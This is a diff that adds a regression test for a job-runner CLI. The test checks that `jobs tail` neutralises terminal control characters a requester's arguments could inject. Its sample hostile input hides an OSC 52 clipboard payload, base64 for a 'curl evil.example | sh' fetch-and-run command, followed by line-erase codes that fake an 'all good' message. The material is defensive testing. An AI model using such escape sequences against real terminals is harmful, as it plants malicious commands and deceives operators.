@@ -6,6 +6,7 @@ the code before its fix.
 from __future__ import annotations
 
 import asyncio
+import sys
 from collections import Counter
 from pathlib import Path
 
@@ -140,3 +141,70 @@ def test_a_requesters_arguments_cannot_write_links_mentions_or_lines_into_the_ap
     assert "\n" not in text and "\\nbob approved" in text, text
     assert "\u202e" not in text and "\\u202edevorppa" in text, text
     assert "&lt;!channel&gt;" in text and "&lt;https://evil.example/x|Open the request&gt;" in text, text
+
+
+def _on_a_terminal(argv: list[str], env: dict[str, str], timeout: float = 60) -> bytes:
+    """What `argv` writes to a terminal (a pseudo-terminal as its stdout and stderr), until it exits."""
+    import os
+    import pty
+    import select
+    import subprocess
+    import time
+
+    main, side = pty.openpty()
+    proc = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=side, stderr=side, env=env)
+    os.close(side)
+    out = b""
+    deadline = time.monotonic() + timeout
+    try:
+        while time.monotonic() < deadline:
+            ready, _, _ = select.select([main], [], [], 1.0)
+            if not ready:
+                if proc.poll() is not None:
+                    break
+                continue
+            try:
+                chunk = os.read(main, 4096)
+            except OSError:  # EIO: the child closed the terminal
+                break
+            if not chunk:
+                break
+            out += chunk
+    finally:
+        os.close(main)
+        if proc.poll() is None:
+            proc.kill()
+        proc.wait(10)
+    return out
+
+
+def test_a_requesters_argument_echoed_by_its_tool_cannot_drive_the_terminal_of_whoever_tails_the_job(
+    tmp_path: Path,
+) -> None:
+    """`toolrun jobs show` writes a requester's arguments with their control characters shown, never sent; but
+    `toolrun jobs tail` (an approver, an admin following another person's job) wrote the job's output to the
+    terminal as it was, and a tool that echoes an argument put the requester's escape sequences there: OSC 52 (set
+    the clipboard, on terminals that allow it), erase the line and rewrite it. To a terminal, tail now writes the
+    output with control characters shown (to a pipe, exactly as printed)."""
+    catalog = (
+        "group: ops\ntools:\n  - name: note\n    exec: printf '%s\\n' {{ msg | quote }}\n"
+        "    params:\n      - {name: msg, type: str}\n    approval: required\n    approvers: [oncall]\n"
+    )
+    hostile = "evil\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2K\rall good"
+    server = serve_catalog(tmp_path, catalog)
+    with server.start():
+        mallory = create_key(server.env, "mallory", "ops")
+        oncall = create_key(server.env, "olive", "oncall")
+        with httpx.Client(base_url=server.url, timeout=30) as client:
+            asked = client.post("/tools/ops.note", json={"msg": hostile}, headers={"X-API-Key": mallory})
+            assert asked.status_code == 202, asked.text
+            job = asked.json()["job"]
+            approved = client.post(f"/jobs/{job}/approve", json={}, headers={"X-API-Key": oncall})
+            assert approved.status_code == 200, approved.text
+        argv = [sys.executable, "-m", "toolrun", "--url", server.url, "--api-key", oncall, "jobs", "tail", job]
+        seen = _on_a_terminal(argv, dict(server.env))
+        piped = toolrun_cli("--url", server.url, "--api-key", oncall, "jobs", "tail", job, env=server.env)
+    assert b"all good" in seen, seen
+    assert b"\x1b" not in seen and b"\x07" not in seen, seen
+    assert b"\\x1b]52" in seen, seen  # shown, as an escape
+    assert "\x1b]52;c;" in piped.stdout, repr(piped.stdout)  # a pipe gets the output exactly as printed
